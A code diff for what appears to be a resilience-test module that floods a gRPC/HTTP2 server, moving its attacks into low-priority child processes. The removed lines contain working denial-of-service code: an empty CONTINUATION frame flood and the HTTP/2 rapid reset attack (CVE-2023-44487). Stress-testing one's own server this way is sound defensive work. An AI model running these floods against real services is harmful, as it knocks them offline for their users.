@@ -2,6 +2,7 @@
 // Each runs until `stop()` and reports what the server did to it.
 import http2 from "node:http2";
 import net from "node:net";
+import { type Attack, LOWEST_PRIORITY, startAttackChild } from "./children.ts";
 import {
   connectRaw,
   Flags,
@@ -12,89 +13,23 @@ import {
   type RawH2Connection,
 } from "./h2-frames.ts";
 
-export interface Attack {
-  /** Ends the attack and closes every connection it opened; resolves its report. */
-  stop(): Promise<string>;
-}
+export type { Attack } from "./children.ts";
 
 const ADD_FLOATS = "/foo.bar.AdderService/AddFloats";
 
-/** Keeps reconnecting while `step` floods one connection, until stopped. */
-function reconnecting(
-  host: string,
-  port: number,
-  step: (connection: RawH2Connection, block: Buffer) => Promise<void>,
-  what: string,
-): Attack {
-  let running = true;
-  let connections = 0;
-  let goAways = 0;
-  let current: RawH2Connection | undefined;
-  const block = headerBlock(grpcRequestHeaders(`${host}:${port}`, ADD_FLOATS));
-  const loop = (async () => {
-    while (running) {
-      try {
-        current = await connectRaw(host, port);
-      } catch {
-        await Bun.sleep(10);
-        continue;
-      }
-      connections++;
-      while (running && !current.socket.destroyed) await step(current, block);
-      if (current.goAwayCode() !== undefined) goAways++;
-      current.destroy();
-    }
-  })();
-  return {
-    async stop() {
-      running = false;
-      current?.destroy();
-      await loop;
-      return `${what}: ${connections} connection(s), ${goAways} ended by GOAWAY`;
-    },
-  };
+/**
+ * A flood of empty CONTINUATION frames (flood-loops.ts), sent from a child process at the lowest
+ * CPU priority: on a machine with few cores the flooding client's own CPU would otherwise be
+ * taken from the healthy pod's load generator, which measures the machine, not vimanad. The
+ * report says how many frames it sent.
+ */
+export function emptyContinuationFlood(host: string, port: number): Promise<Attack> {
+  return startAttackChild(["flood-child.ts", "continuation", host, String(port)], LOWEST_PRIORITY);
 }
 
-/** HEADERS without END_HEADERS, then empty CONTINUATION frames without end. */
-export function emptyContinuationFlood(host: string, port: number): Attack {
-  const empty = frame(FrameType.Continuation, 0, 1);
-  const batch = Buffer.concat(Array.from({ length: 1000 }, () => empty));
-  const started = new WeakSet<RawH2Connection>();
-  return reconnecting(
-    host,
-    port,
-    async (connection, block) => {
-      if (!started.has(connection)) {
-        connection.write(frame(FrameType.Headers, 0, 1, block));
-        started.add(connection);
-      }
-      if (!connection.write(batch)) await Bun.sleep(1);
-      await Bun.sleep(0);
-    },
-    "empty CONTINUATION flood",
-  );
-}
-
-/** A stream opened and reset at once, over and over (CVE-2023-44487). */
-export function rapidReset(host: string, port: number): Attack {
-  let stream = 1;
-  const cancel = Buffer.from([0, 0, 0, 8]);
-  return reconnecting(
-    host,
-    port,
-    async (connection, block) => {
-      const frames: Buffer[] = [];
-      for (let i = 0; i < 100; i++) {
-        frames.push(frame(FrameType.Headers, Flags.EndHeaders, stream, block));
-        frames.push(frame(FrameType.RstStream, 0, stream, cancel));
-        stream += 2;
-        if (stream > 2 ** 31 - 2) stream = 1;
-      }
-      if (!connection.write(Buffer.concat(frames))) await Bun.sleep(1);
-      await Bun.sleep(0);
-    },
-    "rapid reset",
-  );
+/** Streams opened and reset at once, over and over (CVE-2023-44487), from a child as above. */
+export function rapidReset(host: string, port: number): Promise<Attack> {
+  return startAttackChild(["flood-child.ts", "rapid-reset", host, String(port)], LOWEST_PRIORITY);
 }
 
 /**
@@ -139,45 +74,15 @@ const CONNECTIONS_PER_CHILD = 10_000;
  * child processes (idle-heads-child.ts) so that their file descriptors are not the test's.
  */
 export async function idleHeads(host: string, port: number, count: number): Promise<Attack> {
-  const children: { child: Bun.Subprocess; report: () => Promise<string> }[] = [];
+  const children: Attack[] = [];
   for (let left = count; left > 0; left -= CONNECTIONS_PER_CHILD) {
-    const child = Bun.spawn(
-      [
-        process.execPath,
-        `${import.meta.dir}/idle-heads-child.ts`,
-        host,
-        String(port),
-        String(Math.min(left, CONNECTIONS_PER_CHILD)),
-      ],
-      { stdout: "pipe", stderr: "inherit", stdin: "pipe" },
-    );
-    const reader = child.stdout.getReader();
-    let text = "";
-    const readUntil = async (stop: () => boolean) => {
-      while (!stop()) {
-        const { value, done } = await reader.read();
-        if (done) return false;
-        text += new TextDecoder().decode(value);
-      }
-      return true;
-    };
-    if (!(await readUntil(() => text.includes("\n")))) {
-      throw new Error(`idle heads: a child exited early (${await child.exited})`);
-    }
-    children.push({
-      child,
-      report: async () => {
-        child.stdin.end();
-        await readUntil(() => false);
-        await child.exited;
-        return text.trim().replaceAll("\n", ", ");
-      },
-    });
+    const each = String(Math.min(left, CONNECTIONS_PER_CHILD));
+    children.push(await startAttackChild(["idle-heads-child.ts", host, String(port), each]));
   }
   return {
     async stop() {
       const reports: string[] = [];
-      for (const { report } of children) reports.push(await report());
+      for (const child of children) reports.push(await child.stop());
       return `idle half-sent HTTP/1.1 heads: ${reports.join("; ")}`;
     },
   };
